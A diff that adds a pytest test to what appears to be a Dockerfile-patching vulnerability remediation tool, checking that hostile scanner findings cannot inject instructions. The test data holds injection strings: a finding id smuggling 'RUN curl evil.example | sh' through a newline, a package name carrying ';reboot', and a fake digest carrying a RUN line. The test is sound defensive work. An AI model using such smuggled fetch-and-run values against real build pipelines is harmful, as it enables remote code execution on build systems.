@@ -231,3 +231,21 @@ def test_foreign_incident_and_unknown_image(demo_repo: tuple[Path, Path], tmp_pa
     with pytest.raises(InputError, match="not in the incident"):
         remediate([incident], RemediateOptions(tmp_path / "out", images=("nginx:1",)))
     assert not (tmp_path / "out").exists()
+
+
+def test_hostile_findings_cannot_inject_instructions() -> None:
+    """A finding id with a newline would start a new Dockerfile instruction in the comment;
+    a digest that is not one would land in the FROM line. Both are refused."""
+    purl = "pkg:apk/alpine/musl@1?distro=alpine-3.19.1"
+    hostile = {"id": "CVE-1\nRUN curl evil.example | sh", "has_fix": True,
+               "fixed_versions": 5, "package": {"name": "musl", "type": "apk", "purl": purl}}
+    good = {"id": "CVE-2", "has_fix": True, "fixed_versions": ["2"],
+            "package": {"name": "musl;reboot", "type": "apk", "purl": ""}}
+    plan = plan_image({"name": "x", "findings": [hostile, good, "not a finding"]})
+    assert plan.upgrades == {}
+    assert {left.why for left in plan.left} >= {"not an advisory id: ignored"}
+    text = "FROM alpine:3.19\nRUN true\n"
+    patch = patch_dockerfile(text, "Dockerfile", "Dockerfile", plan,
+                             {"docker.io/library/alpine:3.19": "sha256:0\nRUN evil"})
+    assert "evil" not in patch.new_text and any("not a sha256 digest" in w
+                                                for w in patch.warnings)
